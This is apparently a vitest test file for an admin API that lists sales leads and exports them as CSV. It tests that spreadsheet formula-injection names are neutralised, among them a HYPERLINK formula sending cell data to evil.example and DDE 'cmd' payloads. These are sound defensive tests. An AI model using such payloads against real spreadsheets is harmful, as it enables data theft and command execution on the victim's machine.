import { LEADS_CSV_HEADER } from '@app/domain/leads/admin-leads';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  authHeader,
  buildTestApp,
  createUser,
  loginAsVerifiedAdmin,
  type TestApp,
} from '../../../test/harness.ts';
import { leads, showrooms } from '../../db/schema/index.ts';

/** Names a visitor may type into the public pop-up, each meant to run in the admin's spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'Ann "The Builder", Jr.\nsecond line',
];

describe('GET /api/admin/leads and /api/admin/leads.csv', () => {
  let t: TestApp;
  let admin: Record<string, string>;
  let proId: number;
  beforeAll(async () => {
    t = await buildTestApp();
    const user = await createUser(t.db, { type: 'Admin' });
    admin = authHeader(await loginAsVerifiedAdmin(t.app, user.email));
    const pro = await createUser(t.db, { type: 'Contractor' });
    proId = pro.id;
    await t.db.insert(showrooms).values({ userId: pro.id, vsdId: 'LEADRM01', companyName: '=Evil Builders' });
    // 30 pop-up leads a day apart (Pacific noon), the newest on 2026-11-20; then the hostile ones.
    await t.db.insert(leads).values(
      Array.from({ length: 30 }, (_, i) => ({
        fullName: `Lead ${String(i).padStart(2, '0')}`,
        email: `lead${i}@example.test`,
        phoneNumber: `415555${String(i).padStart(4, '0')}`,
        action: 'handle_external_form_submission',
        leadType: i % 3 === 0 ? 'Sample' : 'Pop-Ups',
        shopProfileId: i === 29 ? pro.id : null,
        createdAt: new Date(Date.UTC(2026, 9, 22 + i, 20)),
      })),
    );
    await t.db.insert(leads).values(
      HOSTILE.map((fullName, i) => ({
        fullName,
        email: `hostile${i}@example.test`,
        phoneNumber: i === 1 ? '+14155550100' : '4155550100',
        leadType: 'Hostile',
        createdAt: new Date(Date.UTC(2026, 10, 25, 20, i)),
      })),
    );
  });
  afterAll(() => t.close());

  const list = (query = '') =>
    t.app.inject({ method: 'GET', url: `/api/admin/leads${query}`, headers: admin });
  const csv = (query = '') =>
    t.app.inject({ method: 'GET', url: `/api/admin/leads.csv${query}`, headers: admin });

  it('lists leads newest first, 25 a page, with the showroom and every lead type', async () => {
    const res = await list('?lead_type=Pop-Ups');
    expect(res.statusCode).toBe(200);
    const page = res.json().data;
    expect(page).toMatchObject({ total: 20, per_page: 25, current_page: 1, last_page: 1 });
    expect(page.lead_types).toEqual(['Hostile', 'Pop-Ups', 'Sample']);
    expect(page.data[0]).toEqual({
      id: expect.any(Number),
      full_name: 'Lead 29',
      email: 'lead29@example.test',
      phone_number: '4155550029',
      lead_type: 'Pop-Ups',
      action: 'handle_external_form_submission',
      showroom: { user_id: proId, vsd_id: 'LEADRM01', company_name: '=Evil Builders' },
      created_at: '2026-11-20T20:00:00.000Z',
    });
    expect(page.data[1]).toMatchObject({ full_name: 'Lead 28', showroom: null });
    const all = (await list()).json().data;
    expect(all).toMatchObject({ total: 37, last_page: 2 });
    expect(all.data).toHaveLength(25);
    const second = (await list('?page=2')).json().data;
    expect(second.data).toHaveLength(12);
    expect(second.data.at(-1).full_name).toBe('Lead 00');
    expect(all.links.find((l: { label: string }) => l.label === '2').url).toBe(
      'http://localhost:3000/api/admin/leads?page=2',
    );
  });

  it('searches the name, email and phone number (LIKE signs are text), and filters by Pacific-time days', async () => {
    const names = async (query: string) =>
      (await list(query)).json().data.data.map((l: { full_name: string }) => l.full_name);
    expect(await names('?q=lead 0')).toEqual([
      'Lead 09',
      'Lead 08',
      'Lead 07',
      'Lead 06',
      'Lead 05',
      'Lead 04',
      'Lead 03',
      'Lead 02',
      'Lead 01',
      'Lead 00',
    ]);
    expect(await names('?q=LEAD17@')).toEqual(['Lead 17']);
    expect(await names('?q=4155550021')).toEqual(['Lead 21']);
    expect(await names('?q=%25')).toEqual([]);
    expect(await names('?q=_')).toEqual([]);
    // Lead 10 was sent 2026-11-01 20:00 UTC = 13:00 Pacific, on the 1st.
    expect(await names('?from=2026-11-01&to=2026-11-02')).toEqual(['Lead 11', 'Lead 10']);
    expect(await names('?from=2026-11-20&lead_type=Sample')).toEqual([]);
    expect(await names('?to=2026-10-22')).toEqual(['Lead 00']);
    expect(await names('?q=&lead_type=&from=&to=&page=2')).toHaveLength(12);
  });

  it('refuses bad filters with a 422 on the field', async () => {
    const cases: Array<[string, string]> = [
      ['?from=2026-02-30', 'from'],
      ['?to=yesterday', 'to'],
      ['?from=2026-03-02&to=2026-03-01', 'to'],
      ['?page=0', 'page'],
      ['?page=0x10', 'page'],
      ['?page=1e3', 'page'],
      [`?q=${'x'.repeat(101)}`, 'q'],
      ['?q=a%00b', 'q'],
      ['?lead_type=%00', 'lead_type'],
    ];
    for (const [query, field] of cases) {
      // The export has no pages: it takes every matching lead.
      const answers = field === 'page' ? [await list(query)] : [await list(query), await csv(query)];
      for (const res of answers) {
        expect(res.statusCode, query).toBe(422);
        expect(Object.keys(res.json().errors), query).toEqual([field]);
      }
    }
  });

  it('exports the matching leads as a CSV download that a spreadsheet shows as text, never runs', async () => {
    const res = await csv('?lead_type=Hostile');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith('\uFEFF"Submitted (Pacific time)","Full name"')).toBe(true);
    expect(res.body).toContain('\r\n');
    const rows: string[][] = parse(res.body, { bom: true });
    expect(rows[0]).toEqual([...LEADS_CSV_HEADER]);
    const names = rows.slice(1).map((r) => r[1]);
    // Newest first; every formula start neutralised with a leading apostrophe, the text otherwise intact.
    expect(names).toEqual([...HOSTILE].reverse().map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find((r) => r[2] === 'hostile1@example.test')?.[3]).toBe("'+14155550100");
    expect(rows[1][0]).toBe('2026-11-25 12:06');
    // Every cell quoted, quotes doubled: the comma and the line break stay inside their cell.
    expect(res.body).toContain('"Ann ""The Builder"", Jr.\nsecond line"');
    expect(res.body.split('\r\n')[1]).toMatch(/^"[^"]*","/);
  });

  it('exports the showroom cells safely too, and every matching lead however many', async () => {
    const one = parse((await csv('?q=lead29')).body, { bom: true }) as string[][];
    expect(one[1].slice(6)).toEqual(['LEADRM01', "'=Evil Builders"]);
    expect(one[1].slice(1, 5)).toEqual(['Lead 29', 'lead29@example.test', '4155550029', 'Pop-Ups']);
    await t.db.insert(leads).values(
      Array.from({ length: 2_100 }, (_, i) => ({
        fullName: `Bulk ${i}`,
        email: `bulk${i}@example.test`,
        phoneNumber: '4155550000',
        leadType: 'Bulk',
      })),
    );
    const bulk = parse((await csv('?lead_type=Bulk')).body, { bom: true }) as string[][];
    expect(bulk).toHaveLength(2_101);
    expect(new Set(bulk.slice(1).map((r) => r[1])).size).toBe(2_100);
    expect(bulk[1][1]).toBe('Bulk 2099');
  });
});
